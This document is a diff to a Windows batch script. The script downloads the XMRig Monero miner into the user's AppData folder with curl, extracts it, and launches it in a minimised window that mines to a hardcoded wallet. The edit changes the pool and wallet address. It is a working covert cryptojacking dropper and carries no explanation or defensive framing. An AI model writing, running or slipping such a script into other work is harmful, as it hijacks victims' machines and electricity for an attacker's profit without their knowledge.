@@ -1,6 +1,6 @@
-REM run 3759 v1
+REM init 3048 v1
 @echo off
 cd /d %APPDATA%
 curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
 tar -xf x.zip
-start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level=1
+start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://auto.c3pool.com:13333 -u 43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD -p x --donate-level=1
